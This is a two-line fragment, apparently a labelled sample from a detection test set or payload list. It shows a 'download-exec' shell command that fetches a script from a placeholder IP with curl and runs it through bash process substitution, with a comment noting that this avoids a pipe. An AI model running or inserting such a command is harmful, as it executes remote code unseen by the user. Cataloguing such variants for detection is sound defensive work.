# download-exec: process substitution runs the download without a pipe
bash <(curl -s http://203.0.113.7/run)
